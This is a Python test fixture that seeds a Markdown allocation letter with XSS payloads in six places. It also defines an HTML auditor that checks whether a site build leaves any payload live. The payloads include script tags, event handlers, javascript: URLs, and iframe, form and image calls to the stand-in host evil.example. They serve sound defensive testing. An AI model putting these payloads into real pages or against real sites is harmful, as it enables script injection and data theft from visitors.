"""Hostile markup in a converter's Markdown export (issue 23).

`payload_letter` takes the real 2026 allocation letter (a converter's export:
front matter, pipe tables with HTML in the cells) and puts every payload into
each of six contexts: the front matter, a section heading, a body paragraph
of its own (a Markdown HTML block), running text inside a sentence (inline
HTML), an assignment's header cell and a budget row's comment cell. Each
payload carries its context's code in what it would run or fetch
(`alert('xss-hd-script')`, `http://evil.example/hd/img.png`), so that
whatever goes live names where it came from.

`payload_project` makes a one-year project of it for a build
(tests/_small_project.make_project).
"""
from __future__ import annotations

import json
from pathlib import Path

from _small_project import ROOT, make_project, manifest

LETTER_2026 = "tildelingsbrev-2026.md"
EVIL_HOST = "evil.example"

# (name, payload); "{c}" is the context's code.
PAYLOADS: tuple[tuple[str, str], ...] = (
    ("script", "<script>alert('xss-{c}-script')</script>"),
    ("img-onerror", "<img src=\"http://evil.example/{c}/img.png\" onerror=\"alert('xss-{c}-img')\">"),
    ("javascript-url", "<a href=\"javascript:alert('xss-{c}-jsurl')\">klikk her {c}</a>"),
    ("data-url", "<a href=\"data:text/html,&lt;script&gt;alert('xss-{c}-data')&lt;/script&gt;\">datalenke {c}</a>"),
    ("iframe", "<iframe src=\"http://evil.example/{c}/frame.html\"></iframe>"),
    ("object", "<object data=\"http://evil.example/{c}/object.swf\"></object>"),
    ("svg-onload", "<svg onload=\"alert('xss-{c}-svg')\"><circle r=\"4\"/></svg>"),
    ("style", "<style>body{{background:url(http://evil.example/{c}/bg.png)}}</style>"),
    ("form", "<form action=\"http://evil.example/{c}/post\"><input name=\"q\"><button>Send {c}</button></form>"),
    ("meta-refresh", "<meta http-equiv=\"refresh\" content=\"0;url=http://evil.example/{c}/meta\">"),
    ("unknown-tag", "<blink onmouseover=\"alert('xss-{c}-unknown')\">ukjent element {c}</blink>"),
    ("kept-tag-attrs", "<b onclick=\"alert('xss-{c}-bold')\" style=\"background:url(http://evil.example/{c}/b.png)\">fet tekst {c}</b>"),
    ("md-image", "![Logo fra nettet {c}](http://evil.example/{c}/md.png)"),
    ("md-js-link", "[lenke {c}](javascript:alert('xss-{c}-mdlink'))"),
    ("autolink", "<http://evil.example/{c}/autolink>"),
)
# What a reader may see of each payload when its markup is gone: its words.
CONTENT = {"javascript-url": "klikk her {c}", "data-url": "datalenke {c}", "form": "Send {c}",
           "unknown-tag": "ukjent element {c}", "kept-tag-attrs": "fet tekst {c}", "md-image": "Logo fra nettet {c}",
           "md-js-link": "lenke {c}", "autolink": "evil.example/{c}/autolink"}

# context code -> what it is
CONTEXTS = {
    "fm": "front matter",
    "hd": "section heading",
    "bp": "body paragraph (an HTML block)",
    "rt": "running text (inline HTML in a sentence)",
    "hc": "assignment header cell",
    "cc": "budget row comment cell",
}


def payloads(code: str) -> list[tuple[str, str]]:
    return [(name, text.format(c=code)) for name, text in PAYLOADS]


def all_payloads(code: str) -> str:
    return " ".join(text for _, text in payloads(code))


def _replace_once(text: str, old: str, new: str) -> str:
    assert text.count(old) >= 1, f"the 2026 letter no longer holds {old!r}"
    return text.replace(old, new, 1)


def payload_letter(text: str) -> str:
    """The 2026 letter with every payload in each of the six contexts."""
    # Front matter: a known key's value and an unknown key.
    text = _replace_once(text, "notes: ", f"x_payload: {json.dumps(all_payloads('fm'))}\nnotes: ")
    text = _replace_once(text, "language: nb", f"language: nb\nsubject: {json.dumps(all_payloads('fm'))}")
    # A section heading.
    text = _replace_once(text, "# 1. Innledning\n", f"# 1. Innledning {all_payloads('hd')}\n")
    # A paragraph of its own (an HTML block, as a converter writes <p>), after the heading.
    block = f"<p onclick=\"alert('xss-bp-p')\">{all_payloads('bp')}</p>"
    text = _replace_once(text, "I dette tildelingsbrevet meddeles",
                         f"{block}\n\nI dette tildelingsbrevet meddeles")
    # Running text: inline HTML inside a sentence.
    text = _replace_once(text, "Regjeringens hovedmål er å videreutvikle",
                         f"Regjeringens hovedmål {all_payloads('rt')} er å videreutvikle")
    # An assignment's header cell (its title) and a budget row's comment cell.
    text = _replace_once(text, "<b>Utrede endring i alkoholloven</b>",
                         f"<b>Utrede endring i alkoholloven {all_payloads('hc')}</b>")
    text = _replace_once(text, "Søknadsbasert tilskuddsordninger for kommuner",
                         f"Søknadsbasert {all_payloads('cc')} tilskuddsordninger for kommuner")
    return text


def context_lines(text: str) -> dict[str, int]:
    """The physical line of each context in a payload letter (1-based)."""
    lines = text.split("\n")
    return {code: next(n for n, ln in enumerate(lines, start=1) if f"xss-{code}-" in ln) for code in CONTEXTS}


def letter_2026_bytes() -> bytes:
    """The real 2026 letter (source/)."""
    return (ROOT / "source" / LETTER_2026).read_bytes()


def payload_project(dest: Path) -> Path:
    letter = payload_letter(letter_2026_bytes().decode("utf-8"))
    entry = {"file": LETTER_2026, "kind": "tildelingsbrev", "year": 2026,
             "title": "Tildelingsbrev til Helsedirektoratet for 2026"}
    return make_project(dest, {LETTER_2026: letter}, manifest(entry))


# --- reading the built site ----------------------------------------------------

from html.parser import HTMLParser  # noqa: E402

LIVE_TAGS = {"blink", "iframe", "object", "embed", "frame", "frameset", "applet", "base"}
URL_ATTRS = {"href", "src", "action", "formaction", "data", "xlink:href", "poster", "srcset", "background"}


class PageAudit(HTMLParser):
    """Every way a page's markup could run a payload or fetch from outside,
    and the page's visible text."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.live: list[str] = []
        self.text: list[str] = []
        self._raw: str | None = None  # inside script/style

    def handle_starttag(self, tag, attrs):
        for name, value in attrs:
            value = value or ""
            low = value.strip().lower()
            if name == "href" and low.startswith("#"):
                continue  # a place on the page (a title's slug may hold anything)
            if name.startswith("on") or name == "srcdoc":
                self.live.append(f"<{tag} {name}={value[:80]!r}>")
            elif name in URL_ATTRS and (low.startswith(("javascript:", "vbscript:", "data:text"))
                                        or "xss-" in value or EVIL_HOST in value):
                self.live.append(f"<{tag} {name}={value[:80]!r}>")
            elif name == "style" and ("xss-" in value or EVIL_HOST in value):
                self.live.append(f"<{tag} {name}={value[:80]!r}>")
            # (text in content=, aria-label=, title=, alt= is text: quoted, inert)
        if tag in LIVE_TAGS:
            self.live.append(f"<{tag}>")
        if tag == "meta" and any(n == "http-equiv" and (v or "").lower() == "refresh" for n, v in attrs):
            self.live.append("<meta http-equiv=refresh>")
        if tag in ("script", "style"):
            self._raw = tag

    def handle_endtag(self, tag):
        if tag == self._raw:
            self._raw = None

    def handle_data(self, data):
        if self._raw:
            if "xss-" in data or EVIL_HOST in data:
                self.live.append(f"<{self._raw}>{data.strip()[:80]}")
        else:
            self.text.append(data)

    def visible(self) -> str:
        return " ".join(" ".join(self.text).split())


def audit(path: Path) -> PageAudit:
    page = PageAudit()
    page.feed(path.read_text(encoding="utf-8"))
    page.close()
    return page


def year_pages(site: Path, year: int = 2026) -> list[Path]:
    return sorted((site / str(year)).rglob("*.html"))


def traces(code: str) -> set[str]:
    """What any remnant of the context's payloads holds: what it would run
    (xss-CODE-), fetch (evil.example/CODE/) or show (its words)."""
    return {f"xss-{code}-", f"{EVIL_HOST}/{code}/"} | {words.format(c=code) for words in CONTENT.values()}


def pages_with_payloads(site: Path, year: int = 2026) -> list[Path]:
    """The year's pages that hold a remnant of some payload (escaped or not):
    only these can run one; a page with none has nothing to run."""
    marks = set().union(*(traces(code) for code in CONTEXTS))
    return [p for p in year_pages(site, year) if any(m in p.read_text(encoding="utf-8") for m in marks)]


def distinct_payload_pages(site: Path, year: int = 2026) -> list[Path]:
    """Of pages_with_payloads, the first page of each kind (its folder:
    brev/, kapittel/, oppdrag/ ...) for each set of remnants its article
    holds. The others show the same remnants through the same template: every
    page's navigation and header hold the section headings' and the front
    matter's payloads, so 58 assignment pages whose article holds none differ
    only in that. (2026: 16 of 105 pages.)"""
    import re

    marks = sorted(set().union(*(traces(code) for code in CONTEXTS)))
    first: dict[tuple[str, frozenset[str]], Path] = {}
    for path in pages_with_payloads(site, year):
        parts = path.relative_to(site / str(year)).parts
        article = re.search(r'<article class="md-content__inner.*?</article>', path.read_text(encoding="utf-8"), re.S)
        held = frozenset(m for m in marks if article and m in article.group(0))
        first.setdefault((parts[0] if len(parts) > 1 else "", held), path)
    return sorted(first.values())
